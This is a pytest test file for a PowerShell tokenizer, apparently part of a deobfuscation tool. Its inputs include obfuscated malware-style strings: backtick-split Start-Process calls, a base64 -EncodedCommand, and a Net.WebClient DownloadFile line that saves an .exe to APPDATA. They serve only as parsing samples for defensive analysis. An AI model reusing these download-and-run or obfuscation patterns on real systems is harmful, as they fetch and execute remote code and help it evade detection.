import random
import string

import pytest

from pspeel.model import TokenKind
from pspeel.tokenizer import (
    UnterminatedStringError,
    double_quoted_value,
    embedded_variables,
    quote_single,
    single_quoted_value,
    tokenize,
)


def kinds(tokens):
    return [t.kind for t in tokens]


def roundtrip(s):
    return "".join(t.text for t in tokenize(s))


def test_simple_command() -> None:
    toks = tokenize("IEX 'hi'")
    assert kinds(toks) == [TokenKind.WORD, TokenKind.WHITESPACE, TokenKind.STRING_SINGLE]
    assert toks[0].text == "IEX"
    assert toks[2].text == "'hi'"


def test_format_expression() -> None:
    toks = tokenize("'{1}{0}' -f '-Object','New'")
    assert kinds(toks) == [
        TokenKind.STRING_SINGLE,
        TokenKind.WHITESPACE,
        TokenKind.FORMAT_OPERATOR,
        TokenKind.WHITESPACE,
        TokenKind.STRING_SINGLE,
        TokenKind.OPERATOR,
        TokenKind.STRING_SINGLE,
    ]
    assert toks[2].text == "-f"
    assert toks[5].text == ","


def test_ticked_word_roundtrips() -> None:
    src = "S`tart-P``roce`ss 'malware.exe'"
    toks = tokenize(src)
    assert "".join(t.text for t in toks) == src
    # words separated by backtick tokens
    assert toks[0].kind == TokenKind.WORD and toks[0].text == "S"
    assert toks[1].kind == TokenKind.BACKTICK
    assert TokenKind.BACKTICK in kinds(toks)[1:]
    backticks = [t for t in toks if t.kind == TokenKind.BACKTICK]
    assert len(backticks) == 4


def test_cmdlet_shape_classification() -> None:
    toks = [t for t in tokenize("New-Object Net.WebClient") if t.kind != TokenKind.WHITESPACE]
    assert toks[0].kind == TokenKind.CMDLET_NAME
    assert toks[1].kind == TokenKind.WORD
    assert toks[1].text == "Net.WebClient"


def test_variable_forms() -> None:
    toks = tokenize("$a = $env:APPDATA")
    assert toks[0].kind == TokenKind.VARIABLE
    assert toks[-1].kind == TokenKind.VARIABLE
    assert toks[-1].text == "$env:APPDATA"


def test_method_call_and_dot_source() -> None:
    toks = [t for t in tokenize("(New-Object Net.WebClient).DownloadString('http://a/b')")
            if t.kind != TokenKind.WHITESPACE]
    assert toks[0].kind == TokenKind.LPAREN
    mc = [t for t in toks if t.kind == TokenKind.METHOD_CALL]
    assert [t.text for t in mc] == [".DownloadString"]
    toks2 = [t for t in tokenize(".('IEX')") if t.kind != TokenKind.WHITESPACE]
    assert toks2[0].kind == TokenKind.DOT_SOURCE
    toks3 = [t for t in tokenize("&('New-Object')") if t.kind != TokenKind.WHITESPACE]
    assert toks3[0].kind == TokenKind.CALL_OPERATOR


def test_comments() -> None:
    toks = tokenize("# a comment\nIEX 'x' <# block\nstill #> end")
    assert toks[0].kind == TokenKind.COMMENT
    assert toks[0].text == "# a comment"
    block = [t for t in toks if t.text.startswith("<#")]
    assert len(block) == 1 and block[0].kind == TokenKind.COMMENT


def test_doubled_quote_escape() -> None:
    toks = tokenize("'it''s'")
    assert len(toks) == 1 and toks[0].kind == TokenKind.STRING_SINGLE
    assert single_quoted_value(toks[0].text) == "it's"


def test_double_quoted_backtick_escape() -> None:
    toks = tokenize('"line`nnext"')
    assert len(toks) == 1 and toks[0].kind == TokenKind.STRING_DOUBLE
    assert double_quoted_value(toks[0].text) == "line\nnext"


def test_double_quoted_env_placeholder() -> None:
    assert double_quoted_value('"$env:APPDATA\\x.exe"') == "%APPDATA%\\x.exe"
    assert embedded_variables('"$env:APPDATA\\x.exe"') == ["APPDATA"]
    # escaped dollar is not a reference
    assert embedded_variables('"`$notavar"') == []


def test_unterminated_string_raises() -> None:
    with pytest.raises(UnterminatedStringError) as exc:
        tokenize("IEX 'oops")
    assert exc.value.offset == 4
    with pytest.raises(UnterminatedStringError):
        tokenize('x = "open')


def test_unknown_syntax_degrades_to_word() -> None:
    toks = tokenize("IEX \x7f 'x'")
    assert toks[2].kind == TokenKind.WORD and toks[2].text == "\x7f"


def test_roundtrip_examples() -> None:
    samples = [
        "IEX 'hi'",
        "'{1}{0}' -f '-Object','New'",
        "S`tart-P``roce`ss 'malware.exe'",
        "powershell -EncodedCommand U3RhcnQtUHJvY2VzcyAibWFsd2FyZS5leGUi",
        "$a = 'http://'; $b = 'example.com'; $a + $b",
        "(New-Object Net.WebClient).DownloadFile('http://x/y.exe', \"$env:APPDATA\\s.exe\")",
        ".((VaRIAbLE '*Mdr*').nAme[3,11,2]-JoIn'')",
        "while($true){}",
        "try { IEX $p } catch {}",
        "cmd.exe /c start foo.exe",
        "1..10 | % { $_ }",
        "[char]73 + [char]69",
        "@('h','e','l') -join ''",
        "Write-Output  `\n  'cont'",
    ]
    for s in samples:
        assert roundtrip(s) == s, s


def test_roundtrip_fuzz_seeded() -> None:
    # bytes that tokenize without error must round-trip exactly
    rng = random.Random(1337)
    alphabet = string.ascii_letters + string.digits + " \t\n'\"$`(){};|&+-.,=[]#<>%:\\/"
    checked = 0
    for _ in range(1500):
        s = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 80)))
        try:
            toks = tokenize(s)
        except UnterminatedStringError:
            continue
        assert "".join(t.text for t in toks) == s
        checked += 1
    assert checked > 500


def test_tokenize_deterministic() -> None:
    s = "Start-Process ('mal' + 'ware.exe')"
    assert tokenize(s) == tokenize(s)


def test_quote_single_roundtrip() -> None:
    for v in ["plain", "with 'quote'", "", "a''b"]:
        lit = quote_single(v)
        toks = tokenize(lit)
        assert len(toks) == 1
        assert single_quoted_value(toks[0].text) == v


def test_span_covers_input() -> None:
    s = "Start-Process 'x'  # done"
    toks = tokenize(s)
    assert toks[0].span == (0, 13)
    assert toks[-1].end == len(s)
    for a, b in zip(toks, toks[1:]):
        assert a.end == b.start
